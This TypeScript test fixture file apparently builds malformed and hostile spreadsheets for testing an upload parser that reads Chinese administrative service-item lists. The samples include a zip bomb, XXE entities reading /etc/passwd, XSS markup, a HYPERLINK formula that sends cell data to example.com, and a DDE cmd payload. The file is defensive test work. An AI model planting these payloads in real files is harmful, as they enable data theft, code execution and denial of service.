import { strToU8, zipSync } from "fflate";

/** Markup that would call for help, were it ever taken for markup. */
export const MARKUP = `<img src=x onerror="console.error('ran')"><script>console.error('ran')</script>`;

const MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
const OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships";
const escaped = (text: string): string =>
  text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;");

/** A workbook of one sheet, packed at once: what is inside of `<sheetData>` is given. */
export function workbookOf(rows: Uint8Array | string, before = ""): Uint8Array {
  const link = (type: string, target: string): Uint8Array =>
    strToU8(
      `<Relationships xmlns="${PACKAGE}"><Relationship Id="r1" Type="${OFFICE}/${type}" Target="${target}"/></Relationships>`,
    );
  const head = strToU8(`${before}<worksheet xmlns="${MAIN}"><sheetData>`);
  const body = typeof rows === "string" ? strToU8(rows) : rows;
  const foot = strToU8("</sheetData></worksheet>");
  const sheet = new Uint8Array(head.length + body.length + foot.length);
  sheet.set(head);
  sheet.set(body, head.length);
  sheet.set(foot, head.length + body.length);
  return zipSync(
    {
      "[Content_Types].xml": strToU8(
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
      ),
      "_rels/.rels": link("officeDocument", "xl/workbook.xml"),
      "xl/workbook.xml": strToU8(
        `<workbook xmlns="${MAIN}" xmlns:r="${OFFICE}"><sheets><sheet name="实施清单" sheetId="1" r:id="r1"/></sheets></workbook>`,
      ),
      "xl/_rels/workbook.xml.rels": link("worksheet", "worksheets/sheet1.xml"),
      "xl/worksheets/sheet1.xml": sheet,
    },
    { level: 1 },
  );
}

/** A row of texts. */
export const rowOf = (cells: readonly string[]): string =>
  `<row>${cells.map((text) => `<c t="inlineStr"><is><t xml:space="preserve">${escaped(text)}</t></is></c>`).join("")}</row>`;

export const header = [
  "事项名称",
  "事项类型",
  "办件类型",
  "法定办结时限",
  "承诺办结时限",
  "到办事现场次数",
  "实施机构",
];
const row = (name: string, unit = "县水利局"): string[] => [
  name,
  "行政许可",
  "承诺件",
  "20个工作日",
  "15个工作日",
  "2",
  unit,
];
const listOf = (...rows: string[][]): Uint8Array => workbookOf([header, ...rows].map(rowOf).join(""));

const whole = listOf(row("取水许可"));
const asList = (name: string, bytes: Uint8Array) => ({
  name,
  mimeType: "application/octet-stream",
  buffer: Buffer.from(bytes),
});
type File = ReturnType<typeof asList>;

function withPassword(): Uint8Array {
  const bytes = whole.slice();
  // The bit that says "encrypted", in each entry of the directory.
  for (let at = 0; at < bytes.length - 4; at += 1) {
    if (bytes[at] === 0x50 && bytes[at + 1] === 0x4b && bytes[at + 2] === 1 && bytes[at + 3] === 2) {
      bytes[at + 8] = (bytes[at + 8] ?? 0) | 1;
    }
  }
  return bytes;
}

const entities = `<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY a "${"甲".repeat(1000)}"><!ENTITY b "${"&a;".repeat(1000)}"><!ENTITY c "${"&b;".repeat(1000)}"><!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY w SYSTEM "http://example.com/x">]>`;

/** Files that are no lists, each with what its sentence has to name. */
export const refused: readonly (readonly [file: File, sentence: string])[] = [
  [asList("断了.xlsx", whole.subarray(0, whole.length - 200)), "不完整"],
  [asList("有密码.xlsx", withPassword()), "密码"],
  [
    asList(
      "炸弹.xlsx",
      zipSync({
        "xl/workbook.xml": strToU8('<workbook><sheets><sheet name="a" id="1"/></sheets></workbook>'),
        "xl/worksheets/sheet1.xml": [new Uint8Array(64 << 20).fill(32), { level: 9 }],
      }),
    ),
    "空行",
  ],
  [
    asList(
      "其实是文档.xlsx",
      zipSync({ "[Content_Types].xml": strToU8("<x/>"), "word/document.xml": strToU8("<x/>") }),
    ),
    "Word 文档",
  ],
  [asList("其实是扫描件.xlsx", strToU8("%PDF-1.7\n1 0 obj\n")), "PDF"],
  [
    asList(
      "实体.xlsx",
      workbookOf([header, row("取水&c;&f;&w;许可")].map(rowOf).join("").replaceAll("&amp;", "&"), entities),
    ),
    "DOCTYPE",
  ],
  [asList("空的.xlsx", new Uint8Array()), "空"],
];

/** Lists that can be read, of which no cell may do anything. */
export const hostile: readonly File[] = [
  asList(
    "文字.xlsx",
    listOf(
      row(MARKUP, `县${MARKUP}局`),
      row('=HYPERLINK("http://example.com/?"&A1,"点此")'),
      row("=cmd|' /C calc'!A0"),
      row("长".repeat(5000)),
      row("🏛️办事👨‍👩‍👧𬭊𠮷"),
      row("javascript:console.error('ran')"),
      row("‮甲乙‬"),
    ),
  ),
  asList(
    "公式.xlsx",
    workbookOf(
      `${rowOf(header)}<row><c t="str"><f>WEBSERVICE("http://example.com/")</f><v>河道采砂许可</v></c><c t="inlineStr"><is><t>行政许可</t></is></c></row>`,
    ),
  ),
  asList(
    `<img src=x onerror=console.error('ran')>.csv`,
    strToU8(`${header.join(",")}\n${row("户外广告").join(",")}\n`),
  ),
];
